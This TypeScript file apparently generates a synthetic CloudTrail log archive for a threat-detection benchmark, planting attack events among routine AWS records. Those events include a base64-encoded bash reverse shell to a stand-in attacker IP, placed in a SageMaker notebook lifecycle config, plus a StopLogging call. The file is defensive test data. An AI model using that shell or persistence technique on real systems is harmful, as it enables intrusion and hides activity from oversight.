/**
 * A reproducible synthetic CloudTrail archive in the S3 delivery layout, for the benchmark: records of
 * about 1.4 KB from many services, about 1% SageMaker, and a few planted attack events. The same seed
 * and size give the same files.
 */
import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { join } from 'node:path';
import { createGzip, gzipSync } from 'node:zlib';

const ACCOUNT = '111122223333';
const REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1'];

function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const BACKGROUND: [string, string, (r: () => number) => Record<string, unknown> | null][] = [
  ['s3.amazonaws.com', 'GetBucketAcl', (r) => ({ bucketName: `data-lake-${Math.floor(r() * 40)}`, Host: 's3.amazonaws.com', acl: '' })],
  ['ec2.amazonaws.com', 'DescribeInstances', () => ({ instancesSet: {}, filterSet: { items: [{ name: 'tag:team', valueSet: { items: [{ value: 'ml' }] } }] } })],
  ['kms.amazonaws.com', 'Decrypt', () => ({ encryptionAlgorithm: 'SYMMETRIC_DEFAULT', encryptionContext: { 'aws:s3:arn': 'arn:aws:s3:::data-lake-1/part-0001.parquet' } })],
  ['sts.amazonaws.com', 'AssumeRole', (r) => ({ roleArn: `arn:aws:iam::${ACCOUNT}:role/ci-deploy-${Math.floor(r() * 5)}`, roleSessionName: 'ci', durationSeconds: 3600 })],
  ['logs.amazonaws.com', 'CreateLogStream', (r) => ({ logGroupName: `/aws/lambda/etl-${Math.floor(r() * 9)}`, logStreamName: '2026/11/27/[$LATEST]0123456789abcdef' })],
  ['lambda.amazonaws.com', 'GetFunction', (r) => ({ functionName: `etl-${Math.floor(r() * 9)}` })],
  ['config.amazonaws.com', 'PutEvaluations', () => null],
  ['monitoring.amazonaws.com', 'GetMetricData', () => ({ startTime: 'Nov 27, 2026 1:00:00 PM', endTime: 'Nov 27, 2026 2:00:00 PM' })],
  ['metrics-sagemaker.amazonaws.com', 'PutMetrics', () => null],
];

const SAGEMAKER_BENIGN: [string, (r: () => number) => Record<string, unknown> | null][] = [
  ['ListTrainingJobs', () => ({ maxResults: 20, sortBy: 'CreationTime' })],
  ['DescribeEndpoint', (r) => ({ endpointName: `churn-model-${Math.floor(r() * 4)}` })],
  ['ListNotebookInstances', () => null],
  ['DescribeDomain', () => ({ domainId: 'd-abcdefgh1234' })],
];

function identity(r: () => number): Record<string, unknown> {
  const n = Math.floor(r() * 6);
  return {
    type: 'AssumedRole',
    principalId: `AROAEXAMPLEID${n}:session-${n}`,
    arn: `arn:aws:sts::${ACCOUNT}:assumed-role/team-role-${n}/session-${n}`,
    accountId: ACCOUNT,
    accessKeyId: 'ASIAIOSFODNN7EXAMPLE',
    sessionContext: {
      sessionIssuer: { type: 'Role', principalId: `AROAEXAMPLEID${n}`, arn: `arn:aws:iam::${ACCOUNT}:role/team-role-${n}`, accountId: ACCOUNT, userName: `team-role-${n}` },
      webIdFederationData: {},
      attributes: { creationDate: '2026-11-27T00:00:00Z', mfaAuthenticated: 'false' },
    },
  };
}

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16);
  return s;
}

function uuid(r: () => number): string {
  const h = hex(r, 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}`;
}

function record(r: () => number, time: Date, region: string, source: string, name: string, params: Record<string, unknown> | null): Record<string, unknown> {
  return {
    eventVersion: '1.09',
    userIdentity: identity(r),
    eventTime: time.toISOString().replace(/\.\d{3}Z$/, 'Z'),
    eventSource: source,
    eventName: name,
    awsRegion: region,
    sourceIPAddress: `10.0.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`,
    userAgent: 'aws-sdk-java/2.25.1 Linux/5.10.205-195.807.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/standard',
    requestParameters: params,
    responseElements: null,
    requestID: uuid(r),
    eventID: uuid(r),
    readOnly: true,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    eventCategory: 'Management',
    tlsDetails: { tlsVersion: 'TLSv1.3', cipherSuite: 'TLS_AES_128_GCM_SHA256', clientProvidedHostHeader: `${source.split('.')[0]}.${region}.amazonaws.com` },
  };
}

const REVERSE_SHELL = Buffer.from('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n').toString('base64');

/** Attack events planted among the background, so the benchmark's detect run has real work to do. */
function planted(r: () => number, time: Date, region: string): Record<string, unknown>[] {
  const attacker = (rec: Record<string, unknown>) => ({
    ...rec,
    userIdentity: { type: 'IAMUser', principalId: 'AIDAEXAMPLEATTACKER', arn: `arn:aws:iam::${ACCOUNT}:user/ml-ci-deployer`, accountId: ACCOUNT, accessKeyId: 'AKIAIOSFODNN7EXAMPLE', userName: 'ml-ci-deployer' },
    sourceIPAddress: '203.0.113.50',
    readOnly: false,
  });
  return [
    attacker(record(r, time, region, 'sagemaker.amazonaws.com', 'CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: 'patch', onStart: [{ content: REVERSE_SHELL }] })),
    attacker(record(r, time, region, 'sagemaker.amazonaws.com', 'CreateNotebookInstance', { notebookInstanceName: 'gpu-box', instanceType: 'ml.p4d.24xlarge', roleArn: `arn:aws:iam::${ACCOUNT}:role/AmazonSageMaker-ExecutionRole-1` })),
    attacker(record(r, time, region, 'cloudtrail.amazonaws.com', 'StopLogging', { name: `arn:aws:cloudtrail:${region}:${ACCOUNT}:trail/org-trail` })),
  ];
}

export interface ArchiveSummary {
  files: number;
  records: number;
  uncompressedBytes: number;
  compressedBytes: number;
}

/**
 * Write about `targetBytes` of uncompressed JSON as .json.gz files of `recordsPerFile` records, of which
 * `sagemakerShare` (default 1%) are routine SageMaker calls.
 */
export function generateArchive(dir: string, targetBytes: number, options: { seed?: number; recordsPerFile?: number; sagemakerShare?: number } = {}): ArchiveSummary {
  const r = prng(options.seed ?? 42);
  const perFile = options.recordsPerFile ?? 2000;
  const share = options.sagemakerShare ?? 0.01;
  const start = Date.parse('2026-11-20T00:00:00Z');
  const summary: ArchiveSummary = { files: 0, records: 0, uncompressedBytes: 0, compressedBytes: 0 };
  let t = start;
  while (summary.uncompressedBytes < targetBytes) {
    const region = REGIONS[summary.files % REGIONS.length] as string;
    const records: Record<string, unknown>[] = [];
    for (let i = 0; i < perFile; i++) {
      t += 150;
      const time = new Date(t);
      const x = r();
      if (x < share) {
        const [name, params] = SAGEMAKER_BENIGN[Math.floor(r() * SAGEMAKER_BENIGN.length)]!;
        records.push(record(r, time, region, 'sagemaker.amazonaws.com', name, params(r)));
      } else {
        const [source, name, params] = BACKGROUND[Math.floor(r() * BACKGROUND.length)]!;
        records.push(record(r, time, region, source, name, params(r)));
      }
    }
    if (summary.files % 50 === 7) records.push(...planted(r, new Date(t), region));
    const json = JSON.stringify({ Records: records });
    const gz = gzipSync(json, { level: 6 });
    const d = new Date(t);
    const ymd = [String(d.getUTCFullYear()), String(d.getUTCMonth() + 1).padStart(2, '0'), String(d.getUTCDate()).padStart(2, '0')];
    const stamp = `${ymd.join('')}T${String(d.getUTCHours()).padStart(2, '0')}${String(d.getUTCMinutes()).padStart(2, '0')}Z`;
    const folder = join(dir, 'AWSLogs', ACCOUNT, 'CloudTrail', region, ...ymd);
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, `${ACCOUNT}_CloudTrail_${region}_${stamp}_${hex(r, 16).toUpperCase()}.json.gz`), gz);
    summary.files += 1;
    summary.records += records.length;
    summary.uncompressedBytes += Buffer.byteLength(json);
    summary.compressedBytes += gz.length;
  }
  return summary;
}

/**
 * One S3 delivery file as large as CloudTrail writes them (about `compressedBytes` of gzip; 50 MB is
 * the maximum), streamed out so the generator itself stays small. Same record mix as the archive.
 */
export async function generateLargeFile(dir: string, compressedBytes: number, options: { seed?: number; index?: number } = {}): Promise<ArchiveSummary & { path: string }> {
  const r = prng(options.seed ?? 7 + (options.index ?? 0));
  const region = REGIONS[(options.index ?? 0) % REGIONS.length] as string;
  const folder = join(dir, 'AWSLogs', ACCOUNT, 'CloudTrail', region, '2026', '11', '20');
  mkdirSync(folder, { recursive: true });
  const path = join(folder, `${ACCOUNT}_CloudTrail_${region}_20261120T0000Z_LARGE${options.index ?? 0}.json.gz`);
  const gz = createGzip({ level: 6 });
  const out = createWriteStream(path);
  gz.pipe(out);
  let compressed = 0;
  gz.on('data', (b: Buffer) => (compressed += b.length));
  const summary = { files: 1, records: 0, uncompressedBytes: 0, compressedBytes: 0, path };
  let t = Date.parse('2026-11-20T00:00:00Z');
  const write = async (text: string) => {
    summary.uncompressedBytes += Buffer.byteLength(text);
    if (!gz.write(text)) await once(gz, 'drain');
  };
  await write('{"Records":[');
  while (compressed < compressedBytes) {
    t += 150;
    const x = r();
    const rec =
      x < 0.01
        ? (() => {
            const [name, params] = SAGEMAKER_BENIGN[Math.floor(r() * SAGEMAKER_BENIGN.length)]!;
            return record(r, new Date(t), region, 'sagemaker.amazonaws.com', name, params(r));
          })()
        : (() => {
            const [source, name, params] = BACKGROUND[Math.floor(r() * BACKGROUND.length)]!;
            return record(r, new Date(t), region, source, name, params(r));
          })();
    const batch = [rec, ...(summary.records % 100_000 === 7 ? planted(r, new Date(t), region) : [])];
    for (const b of batch) await write((summary.records++ === 0 ? '' : ',') + JSON.stringify(b));
  }
  gz.end(']}');
  summary.uncompressedBytes += 2;
  await once(out, 'finish');
  summary.compressedBytes = compressed;
  return summary;
}
